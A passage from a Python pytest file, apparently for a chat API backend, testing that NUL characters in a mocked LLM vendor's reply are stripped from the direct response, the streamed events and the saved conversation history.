        history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
        assert [m["content"] for m in history][::2] == [expected, expected]


async def test_a_vendor_reply_with_nul_is_stored_and_returned_without_it(
    api: Api, fake_vendor: FakeVendor, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.fakes import vendor

    reply = property(lambda chat: "be\x00fore <b>x</b>\x00 after")
    monkeypatch.setattr(vendor.Chat, "reply", reply)
    auth = api.auth(1)
    await api.client.post(
        "/llm/config/openai", json={"apiKey": "sk-sanitize-test-key-1234"}, headers=auth
    )
    response = await api.client.post("/llm/chat/openai", json={"message": "hi"}, headers=auth)
    assert response.status_code == 200, response.text
    assert response.json()["response"] == "before <b>x</b> after"
    streamed = await api.client.post(
        "/llm/chat/openai/stream", json={"message": "hi"}, headers=auth
    )
    assert streamed.status_code == 200, streamed.text
    events = stream_events(streamed.text)
    assert events[-1] == ("done", {**events[-1][1], "response": "before <b>x</b> after"})
    assert "".join(data["text"] for name, data in events if name == "delta") == (
        "before <b>x</b> after"
    )
    history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
    assert [m["content"] for m in history if m["role"] == "assistant"] == [
        "before <b>x</b> after"
    ] * 2
